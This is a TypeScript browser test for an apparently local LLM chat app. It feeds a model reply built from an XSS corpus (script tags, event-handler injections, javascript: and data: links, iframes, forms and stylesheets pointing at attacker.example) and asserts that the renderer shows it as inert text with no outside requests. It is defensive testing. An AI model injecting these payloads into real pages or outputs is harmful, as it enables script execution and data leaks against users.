/**
 * Model output is untrusted. A scripted engine replies with an XSS corpus; the real renderer in Chromium
 * must render it as text (sanitized markdown), run none of it, load no remote resource and make no
 * request to anything but the local server.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { startWebMode, type RunningWebMode } from '../../electron/server/webMode.js';
import { ScriptedEngine } from '../../electron/engine/scriptedEngine.js';
import { launchBrowser, screenshot } from '../helpers/browser.js';
import { testModel } from '../helpers/models.js';
import { tempDir } from '../helpers/runtime.js';

/** Payloads from the OWASP XSS filter evasion cheat sheet and markdown-specific vectors. */
const corpus = [
  '# Reply with **bold** and `code`',
  '<script>window.__xss = "script"</script>',
  '<img src=x onerror="window.__xss=\'img\'">',
  '![tracker](https://tracker.example/pixel.png)',
  '![local](/favicon.png "title")',
  '<iframe src="https://attacker.example/"></iframe>',
  '<svg onload="window.__xss=\'svg\'"><circle r=5></circle></svg>',
  '[click me](javascript:window.__xss=\'link\')',
  '[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[vb](vbscript:msgbox(1))',
  '<a href="javascript:window.__xss=1">raw anchor</a>',
  '<div style="background:url(https://attacker.example/bg.png)">styled</div>',
  '<style>body{background:url(https://attacker.example/css.png)}</style>',
  '<link rel="stylesheet" href="https://attacker.example/x.css">',
  '<form action="https://attacker.example/"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  '<object data="https://attacker.example/x.swf"></object>',
  '<base href="https://attacker.example/">',
  '[ok link](https://example.org/docs)',
  '```html\n<script>window.__xss="code"</script>\n```',
  '<details open ontoggle="window.__xss=\'details\'">x</details>',
  '"><img src=x onerror=window.__xss=1>',
].join('\n\n');

let browser: Browser;
let server: RunningWebMode;
const tmp = tempDir('wattwise-xss-');

before(async () => {
  const modelsDir = join(tmp.dir, 'models');
  mkdirSync(modelsDir);
  symlinkSync(testModel('stories260K.gguf'), join(modelsDir, 'stories260K.gguf'));
  server = await startWebMode({
    dataDir: join(tmp.dir, 'data'),
    modelsDirOverride: modelsDir,
    build: false,
    engineFactory: () => new ScriptedEngine({ replies: [corpus], tokenDelayMs: 1 }),
  });
  browser = await launchBrowser();
});
after(async () => {
  await browser?.close();
  await server?.close();
  tmp.cleanup();
});

test('an XSS corpus in a reply renders as inert text and makes no outside request', async () => {
  const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
  const requests: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.goto(server.url);
  await page.getByTestId('composer').fill('Show me everything');
  await page.getByTestId('send').click();
  const reply = page.locator('[data-testid="message"][data-role="assistant"]').last();
  await reply.and(page.locator('[data-status="complete"]')).waitFor({ timeout: 30_000 });
  const content = reply.getByTestId('message-content');
  await page.waitForTimeout(300);

  assert.equal(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss), undefined, 'no payload ran');
  assert.deepEqual(dialogs, []);
  // Markdown still renders.
  assert.equal(await content.locator('strong').first().innerText(), 'bold');
  // Dangerous elements never reach the DOM of the reply.
  for (const selector of ['script', 'iframe', 'object', 'embed', 'form', 'style', 'link', 'meta', 'base', 'svg', 'img', '[onerror]', '[onload]', '[style]']) {
    assert.equal(await content.locator(selector).count(), 0, `${selector} in the reply`);
  }
  // Only http(s) links are links; javascript:/data:/vbscript: are not.
  const hrefs = await content.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('href')));
  assert.deepEqual(hrefs, ['https://example.org/docs']);
  // Raw HTML shows as text, so the user sees what the model wrote.
  assert.match(await content.innerText(), /<script>window.__xss = "script"<\/script>/);
  assert.match(await content.innerText(), /tracker/);
  // Nothing left the machine.
  const outside = requests.filter((u) => !u.startsWith(server.origin) && !u.startsWith('data:'));
  assert.deepEqual(outside, []);
  await screenshot(page, 'xss-corpus');
  await page.close();
});
